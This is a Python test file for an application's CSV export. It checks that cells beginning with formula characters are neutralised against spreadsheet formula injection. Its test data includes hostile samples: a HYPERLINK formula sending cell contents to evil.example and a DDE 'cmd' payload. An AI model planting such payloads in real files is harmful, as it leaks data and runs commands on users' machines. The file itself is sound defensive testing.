"""CSV the program writes cannot smuggle a formula into a spreadsheet (issue 10, finding 5)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

from hypothesis import example, given, settings
from hypothesis import strategies as st

from conftest import PASSPHRASE, run_cli
from omavalmentaja.services import office
from sync_support import add_client

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_office_report_csv_neutralises_formulas_in_every_cell(tmp_path: Path) -> None:
    folder = tmp_path / "office"
    session = office.create_office(folder, PASSPHRASE)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Kajaani")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]
    for number, municipality in enumerate(hostile):
        add_client(session, "Aino", f"Mäkinen{number}", municipality=municipality)
    session.lock()
    result = run_cli("office", "report", "--month", dt.date.today().strftime("%Y-%m"), "--csv", data_dir=folder)
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    municipalities = {row[3] for row in rows[1:] if row[3]}
    assert municipalities == {"'" + m for m in hostile}
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


@settings(max_examples=300)
@given(st.lists(st.lists(st.one_of(st.text(max_size=12), st.integers()), min_size=1, max_size=5), max_size=5))
@example([["\r@"]])  # a lone carriage return was left unquoted, and a reader split the cell at it
def test_no_cell_of_any_csv_starts_a_formula(rows: list[list[object]]) -> None:
    from omavalmentaja.export.csv_safe import csv_text

    text = csv_text(rows)
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("-").isdigit()
